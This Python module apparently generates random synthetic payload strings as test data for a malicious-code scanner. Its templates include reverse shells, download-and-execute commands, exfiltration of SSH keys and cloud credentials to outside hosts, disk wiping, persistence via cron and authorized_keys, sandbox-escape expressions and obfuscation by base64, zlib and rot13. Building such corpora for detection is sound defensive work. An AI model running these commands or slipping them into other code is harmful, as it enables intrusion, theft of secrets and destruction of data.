"""arguments - texts of payloads: commands, programs, addresses, paths; as diverse as a seed allows.

Nothing here is ever run: the texts go into files that are scanned, never loaded. Hosts and names
are put together at random so that no model can learn them.
"""

from __future__ import annotations

import base64
import codecs
import random
import zlib
from typing import Any

from wordlist import words

STEMS = words(
    "cloud data static cdn assets mirror update pkg repo sync node edge core metric stat log relay"
    " api img files store share paste drop beta dev ops build ci mail web app svc game media photo"
    " news blog shop pay bank crypto coin wallet vpn proxy dns time home office lab team project"
)
WORDS = words(
    "run init setup agent worker helper loader task job report result cache backup config service"
    " session token key model weights train eval daemon launch start stage update patch fix check"
    " probe main index install boot client server payload test demo data input output monitor"
)
ENDINGS = words("com net org io dev xyz top site online info co ru cn de fr nl br in me app cloud")
USERS = words("root admin ubuntu ec2-user jenkins deploy user dev alice bob www-data git svc")
TEXT = words("sh bash py pl txt bin elf php so dat tar.gz zip exe ps1 js conf")

SHELL = """
curl -s {url} | sh
curl -fsSL {url} | bash
wget -qO- {url} | sh
wget -q {url} -O {tmp} && chmod +x {tmp} && {tmp}
curl -o {tmp} {url}; chmod 755 {tmp}; nohup {tmp} >/dev/null 2>&1 &
bash -i >& /dev/tcp/{ip}/{port} 0>&1
bash -c 'bash -i >& /dev/tcp/{ip}/{port} 0>&1'
nc -e /bin/sh {ip} {port}
nc {host} {port} -e /bin/bash
rm -f {tmp}; mkfifo {tmp}; cat {tmp} | /bin/sh -i 2>&1 | nc {ip} {port} > {tmp}
ncat {host} {port} -c sh
socat tcp-connect:{host}:{port} exec:sh,pty,stderr
python3 -c "{code}"
python -c '{expr}'
perl -e 'use Socket;$i="{ip}";$p={port};exec("/bin/sh -i");'
ruby -rsocket -e 'exit if fork;c=TCPSocket.new("{ip}",{port})'
php -r '$s=fsockopen("{ip}",{port});exec("sh <&3 >&3 2>&3");'
echo {b64} | base64 -d | sh
echo {hex} | xxd -r -p | bash
base64 -d <<< {b64} | bash
id
whoami
uname -a
ls -la {dir}
ls
pwd
hostname
env
cat {secret}
cat {secret} | curl -X POST -d @- {url}
tar czf - {dir} | nc {ip} {port}
tar czf {tmp} {dir} && curl -F 'file=@{tmp}' {url}
curl {url}?h=$(hostname)&u=$(whoami)
wget {url}/$(whoami)
nslookup $(hostname).{host}
dig +short {word}.{host}
ping -c {small} {host}
rm -rf {dir}
rm -rf /
rm -rf ~/{word}
dd if=/dev/zero of=/dev/sda bs=1M
shutdown -h now
reboot
kill -9 -1
pkill -f {word}
echo "* * * * * {tmp}" | crontab -
(crontab -l; echo "@reboot {tmp}") | crontab -
echo 'ssh-rsa {b64}' >> ~/.ssh/authorized_keys
useradd -m -s /bin/bash {user}
echo '{user}:{word}{port}' | chpasswd
chmod u+s /bin/bash
sudo {tmp}
touch {tmp}
touch {word}.{text}
echo {word} > {tmp}
echo pwned
echo hacked by {user} > {word}.txt
mkdir -p {tmp}
cp {secret} {tmp}
scp {secret} {user}@{host}:{tmp}
ssh {user}@{host} '{tmp}'
mv {tmp} ~/.config/autostart/{word}.desktop
systemctl stop {word}
systemctl enable --now {word}.service
docker run -v /:/mnt --rm {word} chroot /mnt sh
git clone https://{host}/{word}/{word2}.git && cd {word2} && make
pip install {word}-{word2}
pip install --index-url https://{host}/simple {word}
npm install {word}-{word2}
xmrig -o {host}:{port} -u {b64} -k
sleep {port}
export LD_PRELOAD={tmp}; {word}
iptables -F
find / -name '*.pem' -exec cat {{}} ;
gcc -x c {tmp} -o {tmp}.o && {tmp}.o
powershell -nop -w hidden -enc {wide}
powershell -Command "IEX(New-Object Net.WebClient).DownloadString('{url}')"
powershell.exe Invoke-WebRequest {url} -OutFile $env:TEMP\\{word}.exe; Start-Process $env:TEMP\\{word}.exe
cmd.exe /c certutil -urlcache -f {url} %TEMP%\\{word}.exe & %TEMP%\\{word}.exe
cmd /c start calc.exe
calc.exe
calc
notepad.exe
mshta {url}
rundll32 {word}.dll,{word2}
reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {word} /d {word2}.exe
open -a Calculator
gnome-calculator
xdg-open {url}
"""

CODE = """
import os; os.system({shell!r})
import os\\nos.system({shell!r})
__import__('os').system({shell!r})
__import__('os').popen({shell!r}).read()
import subprocess; subprocess.Popen({shell!r}, shell=True)
import subprocess as s\\ns.call(['sh', '-c', {shell!r}])
import subprocess\\nprint(subprocess.check_output({shell!r}, shell=True).decode())
import socket,os,pty;s=socket.socket();s.connect(('{ip}',{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')
import socket,subprocess,os\\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\\ns.connect(('{host}',{port}))\\nos.dup2(s.fileno(),0)\\nos.dup2(s.fileno(),1)\\nsubprocess.call(['/bin/sh','-i'])
import urllib.request as u; exec(u.urlopen('{url}').read())
from urllib.request import urlopen\\nexec(urlopen('{url}').read().decode())
import requests; exec(requests.get('{url}').text)
import requests, os\\nrequests.post('{url}', data=dict(os.environ))
import base64; exec(base64.b64decode('{b64}'))
exec(__import__('base64').b64decode('{b64}'))
exec(__import__('zlib').decompress(bytes.fromhex('{hex}')))
import marshal; exec(marshal.loads(bytes.fromhex('{hex}')))
open('{tmp}', 'w').write({shell!r})
with open('{tmp}', 'wb') as f:\\n    f.write(bytes.fromhex('{hex}'))
import shutil; shutil.rmtree('{dir}')
import os\\nfor n in os.listdir('{dir}'):\\n    os.remove(n)
import pathlib; print(pathlib.Path('{secret}').read_text())
data = open('{secret}').read()\\nimport urllib.request\\nurllib.request.urlopen('{url}', data.encode())
import threading, os; threading.Thread(target=os.system, args=({shell!r},)).start()
import ctypes; ctypes.CDLL('{tmp}.so')
import sys; sys.path.insert(0, '{dir}'); import {word}
print('{word}'); raise SystemExit
import builtins; builtins.print = lambda *a: None
import webbrowser; webbrowser.open('{url}')
import smtplib; smtplib.SMTP('{host}').sendmail('{user}@{host}', ['{word}@{host}'], open('{secret}').read())
def {word}():\\n    import os\\n    os.system({shell!r})\\n{word}()
class {word}:\\n    pass\\nimport pty; pty.spawn('/bin/bash')
"""

EXPR = """
__import__('os').system({shell!r})
__import__('os').popen({shell!r}).read()
__import__('subprocess').getoutput({shell!r})
__import__('subprocess').Popen({shell!r}, shell=True)
exec(__import__('base64').b64decode('{b64}'))
exec("import os; os.system({shell_plain})")
eval(compile({code!r}, '<{word}>', 'exec'))
open('{tmp}', 'w').write('{word}')
open('{secret}').read()
print('{word}')
print("{word} {word2}")
[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]({shell!r}, shell=True)
__builtins__['__import__']('os').system({shell!r})
getattr(__import__('o' + 's'), 'sys' + 'tem')({shell!r})
__import__('urllib.request', fromlist=['x']).urlopen('{url}').read()
(lambda o: o.system({shell!r}))(__import__('os'))
globals()['__builtins__'].exec({code!r})
"""

SECRETS = words(
    "/etc/passwd /etc/shadow ~/.ssh/id_rsa ~/.aws/credentials ~/.netrc ~/.bash_history /etc/hosts"
    " /proc/self/environ ~/.kube/config ~/.docker/config.json /root/.ssh/id_ed25519 .env"
    " ~/.git-credentials C:/Windows/win.ini /var/run/secrets/token ~/.pypirc"
)
FOLDERS = words("/tmp /var/tmp /dev/shm ~/.cache /opt /usr/local/bin . .. ~/.local/bin /srv")
STARTUP = words(
    "~/.bashrc ~/.profile ~/.zshrc sitecustomize.py usercustomize.py ~/.config/autostart/{w}.desktop"
    " /etc/cron.d/{w} ~/.ssh/authorized_keys /etc/ld.so.preload"
    " /usr/lib/python3/dist-packages/{w}.pth ~/.local/lib/python3.11/site-packages/{w}.pth"
    " __init__.py ~/.vimrc setup.py conftest.py ~/.ipython/profile_default/startup/{w}.py"
    " C:/Users/Public/{w}.bat"
)


def lines(table: str) -> list[str]:
    return [line.replace("\\n", "\n") for line in table.splitlines() if line]


SHELL_LINES, CODE_LINES, EXPR_LINES = lines(SHELL), lines(CODE), lines(EXPR)


class Arguments:
    """Draws texts."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng

    def word(self) -> str:
        rng = self.rng
        roll = rng.random()
        if roll < 0.5:
            return rng.choice(WORDS)
        if roll < 0.75:
            return rng.choice(WORDS) + rng.choice(["_", "", ""]) + rng.choice(STEMS)
        letters = "abcdefghijklmnopqrstuvwxyz"
        return rng.choice(letters) + "".join(
            rng.choices(letters + "0123456789", k=rng.randrange(1, 8))
        )

    def host(self) -> str:
        rng = self.rng
        if rng.random() < 0.3:
            return self.ip()
        name = rng.choice(STEMS) + rng.choice(["", "-", ""]) + rng.choice(STEMS + WORDS)
        sub = rng.choice(["", "", "www.", "cdn.", rng.choice(STEMS) + "."])
        return f"{sub}{name}{rng.choice(['', str(rng.randrange(100))])}.{rng.choice(ENDINGS)}"

    def ip(self) -> str:
        first = self.rng.choice([10, 192, 172, *range(23, 223)])
        return ".".join(map(str, [first, *(self.rng.randrange(1, 255) for _ in range(3))]))

    def port(self) -> int:
        return self.rng.choice(
            [4444, 1337, 8080, 443, 80, 9001, 53, self.rng.randrange(1024, 65535)]
        )

    def url(self) -> str:
        rng = self.rng
        path = "/".join(self.word() for _ in range(rng.randrange(3)))
        end = rng.choice(["", "/", f".{rng.choice(TEXT)}", f"?id={rng.randrange(9999)}"])
        port = rng.choice(["", "", f":{self.port()}"])
        return f"{rng.choice(['http', 'https', 'https'])}://{self.host()}{port}/{path}{end}"

    def folder(self) -> str:
        return f"{self.rng.choice(FOLDERS)}/{self.word()}"

    def path(self) -> str:
        """A file that a payload makes."""
        rng = self.rng
        if rng.random() < 0.3:
            return rng.choice(STARTUP).replace("{w}", self.word())
        dot = rng.choice(["", ".", ""])
        return f"{rng.choice(FOLDERS)}/{dot}{self.word()}{rng.choice(['', '.' + rng.choice(TEXT)])}"

    def secret(self) -> str:
        return self.rng.choice(SECRETS)

    def fill(self, template: str, depth: int = 0) -> str:
        rng = self.rng
        values: dict[str, object] = dict.fromkeys(("shell", "code", "expr", "shell_plain"), "")
        if depth < 2:
            values["shell"] = self.shell(depth + 1) if "{shell" in template else ""
            values["shell_plain"] = repr(values["shell"]).replace('"', "'")
            values["code"] = self.code(depth + 1) if "{code" in template else ""
            values["expr"] = self.expr(depth + 1) if "{expr" in template else ""
        inner = self.shell(depth + 1).encode() if depth < 2 else self.word().encode()
        small = {"b64", "hex", "wide"} & {part.split("}")[0] for part in template.split("{")}
        values |= {
            "url": self.url(),
            "host": self.host(),
            "ip": self.ip(),
            "port": self.port(),
            "tmp": f"{rng.choice(FOLDERS[:4])}/{rng.choice(['', '.'])}{self.word()}",
            "dir": self.folder(),
            "secret": self.secret(),
            "word": self.word(),
            "word2": self.word(),
            "user": rng.choice(USERS),
            "text": rng.choice(TEXT),
            "small": rng.randrange(1, 9),
            "b64": base64.b64encode(inner).decode() if small else "",
            "hex": inner.hex() if small else "",
            "wide": base64.b64encode(inner.decode().encode("utf-16-le")).decode() if small else "",
        }
        return template.format(**values)

    def shell(self, depth: int = 0) -> str:
        return self.fill(self.rng.choice(SHELL_LINES), depth)

    def code(self, depth: int = 0) -> str:
        return self.fill(self.rng.choice(CODE_LINES), depth)

    def expr(self, depth: int = 0) -> str:
        return self.fill(self.rng.choice(EXPR_LINES), depth)

    def argv(self) -> list[str]:
        rng = self.rng
        roll = rng.random()
        if roll < 0.4:
            return [rng.choice(["sh", "bash", "/bin/sh", "/bin/bash"]), "-c", self.shell()]
        if roll < 0.6:
            return [rng.choice(["python3", "python", "/usr/bin/env python3"]), "-c", self.code()]
        return self.shell().split()

    def packed(self, text: str) -> bytes:
        """A text as an attacker hides it."""
        data = text.encode()
        ways: list[Any] = [
            base64.b64encode,
            zlib.compress,
            lambda d: base64.b64encode(zlib.compress(d)),
        ]
        ways += [base64.b85encode, base64.b32encode, lambda d: d.hex().encode()]
        return bytes(self.rng.choice(ways)(data))

    def rot13(self, text: str) -> str:
        return codecs.encode(text, "rot13")
